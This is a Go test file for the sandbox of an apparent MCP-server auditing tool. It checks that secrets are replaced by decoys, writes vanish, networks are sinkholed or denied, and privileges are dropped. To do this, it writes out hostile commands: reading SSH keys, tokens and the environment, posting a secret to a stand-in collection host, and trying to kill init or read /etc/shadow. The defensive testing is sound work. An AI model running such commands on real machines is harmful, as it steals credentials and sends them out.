package sandbox_test

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"golang.org/x/sys/unix"

	"github.com/mcpaudit/mcpaudit/api/plan"
	"github.com/mcpaudit/mcpaudit/api/report"
	"github.com/mcpaudit/mcpaudit/runner/audit"
	"github.com/mcpaudit/mcpaudit/runner/ptrace"
	"github.com/mcpaudit/mcpaudit/runner/sandbox"
	"github.com/mcpaudit/mcpaudit/runner/sinkhole"
	"github.com/mcpaudit/mcpaudit/runner/trace"
	"github.com/mcpaudit/mcpaudit/test/poll"
)

func init() { runtime.LockOSThread() }

// vsockArg makes the test binary a server that makes a socket of AF_VSOCK.
const vsockArg = "make-vsock"

// postArg makes it a client that posts to a URL.
const postArg = "post"

func post(url string) error {
	reply, err := http.Post(url, "text/plain", strings.NewReader("a secret"))
	if err != nil {
		return err
	}
	defer func() { _ = reply.Body.Close() }() // only read
	_, err = io.Copy(os.Stdout, reply.Body)
	return err
}

// The test binary is its own tracer and sandbox, as mcpaudit is.
func TestMain(m *testing.M) {
	if code, ok := ptrace.Stage(os.Args[1:]); ok {
		os.Exit(code)
	}
	if code, ok := sandbox.Stage(os.Args[1:]); ok {
		os.Exit(code)
	}
	if len(os.Args) == 3 && os.Args[1] == postArg {
		if err := post(os.Args[2]); err != nil {
			fmt.Println(err)
			os.Exit(1)
		}
		os.Exit(0)
	}
	if len(os.Args) == 3 && os.Args[1] == greetArg {
		if err := greet(os.Args[2], "inside"); err != nil {
			fmt.Println(err)
			os.Exit(1)
		}
		os.Exit(0)
	}
	if len(os.Args) == 2 && os.Args[1] == askArg {
		if err := ask(); err != nil {
			fmt.Println(err)
			os.Exit(1)
		}
		os.Exit(0)
	}
	if len(os.Args) == 2 && os.Args[1] == vsockArg {
		_, err := unix.Socket(unix.AF_VSOCK, unix.SOCK_STREAM, 0)
		fmt.Println("still here:", err)
		os.Exit(0)
	}
	os.Exit(m.Run())
}

// outcome is all that a run shows.
type outcome struct {
	stdout, stderr string
	events         []trace.Event
	notes          []string
	process        audit.Process
	captures       []sinkhole.Capture
}

func run(t *testing.T, command ...string) outcome {
	t.Helper()
	return runUnder(t, plan.TracerAuto, report.NetworkSinkhole, command...)
}

func runIn(t *testing.T, network report.Network, command ...string) outcome {
	t.Helper()
	return runUnder(t, plan.TracerAuto, network, command...)
}

func runUnder(t *testing.T, tracer plan.Tracer, network report.Network, command ...string) outcome {
	t.Helper()
	launcher, err := sandbox.New(command, t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	launcher.Network = network
	launcher.Tracer = tracer
	return runWith(t, launcher)
}

func runWith(t *testing.T, launcher *sandbox.Launcher) outcome {
	t.Helper()
	return startWith(t, launcher, audit.Start{})
}

func startWith(t *testing.T, launcher *sandbox.Launcher, how audit.Start) outcome {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), poll.Patience)
	defer cancel()
	t.Cleanup(func() { _ = launcher.Close() }) // what it held goes with us in any case
	process, err := launcher.Launch(ctx, how)
	if err != nil {
		t.Fatal(err)
	}
	caught := make(chan []sinkhole.Capture, 1)
	go func() { caught <- collect(process.Captures()) }()
	o := outcome{process: process}
	traced := make(chan error, 1)
	go func() {
		traced <- process.Trace().Run(ctx, func(e trace.Event) { o.events = append(o.events, e) })
	}()
	stdin, stdout, stderr := process.Streams()
	if err := stdin.Close(); err != nil {
		t.Fatal(err)
	}
	said := make(chan string, 1)
	go func() { said <- readAll(stderr) }()
	heard := make(chan string, 1)
	go func() { heard <- readAll(stdout) }()
	select {
	case <-process.Exited():
	case <-ctx.Done():
		t.Error("the command does not end")
	}
	process.Stop(ctx)
	if err := <-traced; err != nil {
		t.Error(err)
	}
	o.stdout, o.stderr, o.notes = <-heard, <-said, process.Notes()
	o.captures = <-caught
	return o
}

// collect takes all captures; none come where there is no sinkhole.
func collect(from <-chan sinkhole.Capture) []sinkhole.Capture {
	var all []sinkhole.Capture
	for from != nil {
		c, ok := <-from
		if !ok {
			break
		}
		all = append(all, c)
	}
	return all
}

func readAll(r io.Reader) string {
	b, err := io.ReadAll(r)
	if err != nil {
		return fmt.Sprintf("%s (%v)", b, err)
	}
	return string(b)
}

func shell(t *testing.T, script string) outcome {
	t.Helper()
	o := run(t, "sh", "-c", script)
	t.Logf("stdout %q, stderr %q, notes %q", o.stdout, o.stderr, o.notes)
	return o
}

func TestHomeHasDecoysInPlaceOfSecrets(t *testing.T) {
	home := t.TempDir()
	t.Setenv("HOME", home)
	t.Setenv("MY_API_TOKEN", "real secret of the user")
	for name, content := range map[string]string{
		".ssh/id_rsa": "real secret", ".ssh/other": "real secret", ".bash_history": "real secret",
		".config/tool/token": "real secret", "notes/a.txt": "a note", ".nvm/version": "20",
	} {
		write(t, filepath.Join(home, name), content)
	}
	o := shell(t, `cd; cat .ssh/id_rsa notes/a.txt .nvm/version; cat .ssh/other .bash_history .config/tool/token; env`)
	for _, want := range []string{"BEGIN RSA PRIVATE KEY", "a note", "20", "GITHUB_TOKEN=ghp_", "HOME=" + home} {
		if !strings.Contains(o.stdout, want) {
			t.Errorf("no %q in what the server saw", want)
		}
	}
	if strings.Contains(o.stdout, "real secret") {
		t.Error("the server saw a real secret")
	}
	if !sawRead(o.events, filepath.Join(home, ".ssh/id_rsa")) {
		t.Error("the trace does not name the key by its path")
	}
}

func TestWritesVanish(t *testing.T) {
	home := t.TempDir()
	t.Setenv("HOME", home)
	write(t, filepath.Join(home, "project/file"), "before")
	o := shell(t, `cd; echo after > project/file && echo new > project/new && cat project/file project/new; echo x > /tmp/mcpaudit-test-x && echo x > /usr/mcpaudit-test-x && echo written`)
	if o.stdout != "after\nnew\nwritten\n" && os.Getuid() == 0 {
		t.Errorf("the server could not write as on the machine: %q", o.stdout)
	}
	if got, err := os.ReadFile(filepath.Join(home, "project/file")); err != nil || string(got) != "before" {
		t.Errorf("the machine's file reads %q, %v", got, err)
	}
	for _, path := range []string{filepath.Join(home, "project/new"), "/tmp/mcpaudit-test-x", "/usr/mcpaudit-test-x"} {
		if _, err := os.Stat(path); err == nil {
			t.Errorf("%s is there", path)
		}
	}
}

// TestTmpIsTheServersOwn: of the machine's files for temporary use the server sees what
// its command names, and there is little room.
func TestTmpIsTheServersOwn(t *testing.T) {
	t.Setenv("HOME", "/home/ellis-test") // not there: the server gets one
	dir, err := os.MkdirTemp("/tmp", "mcpaudit-test-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = os.RemoveAll(dir) })
	write(t, filepath.Join(dir, "of-the-user/diary"), "private")
	write(t, filepath.Join(dir, "project/lib"), "beside")
	write(t, filepath.Join(dir, "project/walk"), `find "$1" -type f; df -k --output=size /tmp /var/tmp /dev/shm | sort -n | tail -n 1`)
	o := run(t, "sh", filepath.Join(dir, "project/walk"), "/tmp")
	if strings.Contains(o.stdout, "of-the-user") {
		t.Errorf("the server sees what is the user's: %q", o.stdout)
	}
	for _, want := range []string{dir + "/project/lib", dir + "/project/walk", "262144"} {
		if !strings.Contains(o.stdout, want) {
			t.Errorf("no %s in %q, %q", want, o.stdout, o.stderr)
		}
	}
	checkout, err := filepath.Abs("../..") // the working directory is seen, and may be there
	if err != nil {
		t.Fatal(err)
	}
	for path := range strings.Lines(o.stdout) {
		if path = strings.TrimSpace(path); strings.HasPrefix(path, "/") && !strings.HasPrefix(path, dir) && !strings.HasPrefix(path, "/tmp/marlow-") && !strings.HasPrefix(path, checkout) {
			t.Errorf("the server sees %s", path)
		}
	}
}

func TestTheServerIsAloneAndPowerless(t *testing.T) {
	o := shell(t, `grep -E "^(TracerPid|CapEff|CapPrm|CapBnd|CapAmb|NoNewPrivs)" /proc/self/status | tr "\t\n" " ;"
ls /proc | grep -c "^[0-9]"; kill -KILL 1; echo alive; mount -t tmpfs none /mnt 2>/dev/null || echo no mount
cat /etc/shadow 2>/dev/null | wc -c; echo 1 > /proc/sys/kernel/hostname 2>/dev/null || echo no sysctl; ls /dev | tr "\n" " "`)
	for _, want := range []string{
		"TracerPid: 0;", "CapPrm: 0000000000000000;", "CapEff: 0000000000000000;", "CapBnd: 0000000000000000;",
		"CapAmb: 0000000000000000;", "NoNewPrivs: 1;", "alive", "no mount", "\n0\n", "no sysctl",
		"fd full null ptmx pts random shm stderr stdin stdout tty urandom zero",
	} {
		if !strings.Contains(o.stdout, want) {
			t.Errorf("no %q in %q", want, o.stdout)
		}
	}
}

// TestS13KernelFilesAreMasked: what container engines mask, a server does not read
// either, where the machine has it.
func TestS13KernelFilesAreMasked(t *testing.T) {
	o := shell(t, `for f in acpi asound interrupts kcore keys latency_stats sched_debug scsi timer_list timer_stats; do
[ -d /proc/$f ] && ls -A /proc/$f; [ -f /proc/$f ] && head -c 1 /proc/$f; done
ls -A /sys/firmware /sys/devices/virtual/powercap 2>/dev/null | grep -v : ; echo done
for f in bus fs irq sys; do [ -d /proc/$f ] && grep -q " /proc/$f proc ro" /proc/self/mounts || [ ! -d /proc/$f ] || echo $f is writable; done`)
	if strings.TrimSpace(o.stdout) != "done" {
		t.Errorf("the server reads %q", o.stdout)
	}
}

func TestNoDescriptorIsInherited(t *testing.T) {
	dir, err := unix.Open("/", unix.O_PATH|unix.O_DIRECTORY, 0) // not close-on-exec: as from a shell
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = unix.Close(dir) })
	for _, target := range strings.Fields(shell(t, "for fd in /proc/$$/fd/*; do readlink $fd; done").stdout) {
		if !strings.HasPrefix(target, "pipe:") {
			t.Errorf("the server has a descriptor of %s", target)
		}
	}
}

// TestNetworks: what is sent is answered and seen, or refused, as is wished.
func TestNetworks(t *testing.T) {
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	server := filepath.Join(t.TempDir(), "server") // the trace takes self for a stage of the sandbox
	if err := os.Symlink(self, server); err != nil {
		t.Fatal(err)
	}
	for _, url := range []string{"http://collect.example/x", "https://collect.example/x", "https://93.184.216.34:8443/x"} {
		o := run(t, server, postArg, url)
		if !strings.Contains(o.stdout, `"ok":true`) {
			t.Errorf("%s: the server was answered %q, notes %q", url, o.stdout, o.notes)
		}
		found := false
		for _, c := range o.captures {
			found = found || strings.HasPrefix(c.Request, "POST /x HTTP/") && strings.HasSuffix(string(c.Data), "a secret")
		}
		if !found {
			t.Errorf("%s: no capture of the secret in %+v", url, o.captures)
		}
	}
	o := runIn(t, report.NetworkDeny, server, postArg, "http://93.184.216.34/x")
	if !strings.Contains(o.stdout, "connection refused") || o.process.Captures() != nil {
		t.Errorf("denied: the server said %q", o.stdout)
	}
}

// TestAllowedNetwork: the server reaches what listens on the machine.
func TestAllowedNetwork(t *testing.T) {
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	service := &http.Server{ReadHeaderTimeout: poll.Patience, Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		_, _ = io.WriteString(w, "this machine") // the client says whether it came
	})}
	go func() { _ = service.Serve(listener) }() // ends with Close
	t.Cleanup(func() { _ = service.Close() })
	url := "http://" + listener.Addr().String()
	if o := runIn(t, report.NetworkAllow, self, postArg, url); o.stdout != "this machine" {
		t.Errorf("allowed: the server said %q", o.stdout)
	}
	if o := run(t, self, postArg, url); !strings.Contains(o.stdout, "connection refused") {
		t.Errorf("in the sinkhole: the server said %q", o.stdout)
	}
}

func TestFailuresComeInWords(t *testing.T) {
	for command, want := range map[string]string{
		"no-such-program-here": "is not in PATH", "/nonexistent/x": "does not exist", "/etc/passwd": "not executable",
	} {
		launcher, err := sandbox.New([]string{command}, t.TempDir())
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { _ = launcher.Close() }) // what it held goes with us in any case
		ctx, cancel := context.WithTimeout(context.Background(), poll.Patience)
		if _, err := launcher.Launch(ctx, audit.Start{}); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: got %v, want %q", command, err, want)
		}
		cancel()
	}
}

func sawRead(events []trace.Event, path string) bool {
	for _, e := range events {
		if e.Op == trace.OpRead && e.Path == path && e.Errno == "" {
			return true
		}
	}
	return false
}

func write(t *testing.T, path, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}
